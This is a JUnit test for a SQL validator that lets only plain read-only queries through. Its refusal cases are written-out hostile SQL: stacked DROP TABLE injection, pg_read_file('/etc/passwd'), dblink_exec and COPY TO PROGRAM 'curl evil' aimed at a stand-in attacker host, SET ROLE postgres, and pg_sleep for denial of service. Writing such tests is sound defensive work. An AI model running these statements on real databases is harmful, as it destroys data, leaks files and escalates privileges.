package dev.schemaguard.policies.query;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class ReadOnlyQueryCheckTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT * FROM shop.orders WHERE status = 'INSERT INTO x' LIMIT 5",
                "SELECT count(*), max(total) FROM shop.orders",
                "WITH recent AS (SELECT * FROM shop.orders WHERE created_at > now() - interval '1 day') SELECT * FROM recent",
                "SELECT pg_size_pretty(pg_total_relation_size('shop.orders'))",
                "SELECT a FROM t UNION SELECT b FROM u",
                "VALUES (1), (2)",
                "SELECT \"update\" FROM t",
                "SELECT 1;"
            })
    void plainReadsPass(String sql) {
        assertThat(ReadOnlyQueryCheck.problem(sql)).as(sql).isNull();
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "SELECT 1; DROP TABLE shop.orders                                   | exactly one statement",
                "SELECT 1; /* ; */ SELECT 2                                         | exactly one statement",
                "DELETE FROM shop.orders                                            | only a SELECT",
                "WITH gone AS (DELETE FROM shop.orders RETURNING *) SELECT * FROM gone | DELETE is not part of a plain read",
                "SELECT * INTO backup FROM shop.orders                              | INTO is not part of a plain read",
                "SELECT * FROM shop.orders FOR UPDATE                               | lock rows",
                "SELECT * FROM shop.orders FOR NO KEY UPDATE                        | lock rows",
                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity             | pg_terminate_backend",
                "SELECT pg_cancel_backend(1)                                        | pg_cancel_backend",
                "SELECT pg_read_file('/etc/passwd')                                 | pg_read_file",
                "SELECT set_config('statement_timeout', '0', false)                 | set_config",
                "SELECT query_to_xml('delete from shop.orders', true, true, '')     | query_to_xml",
                "SELECT lo_export(1, '/tmp/x')                                      | lo_export",
                "SELECT pg_sleep(3600)                                              | pg_sleep",
                "SELECT pg_advisory_lock(1)                                         | pg_advisory_lock",
                "SELECT dblink_exec('host=evil', 'drop table x')                    | dblink_exec",
                "COPY shop.orders TO PROGRAM 'curl evil'                           | only a SELECT",
                "SET ROLE postgres                                                  | only a SELECT",
            })
    void anythingElseIsRefusedWithTheReason(String sql, String reason) {
        assertThat(ReadOnlyQueryCheck.problem(sql)).as(sql).contains(reason.trim());
    }
}
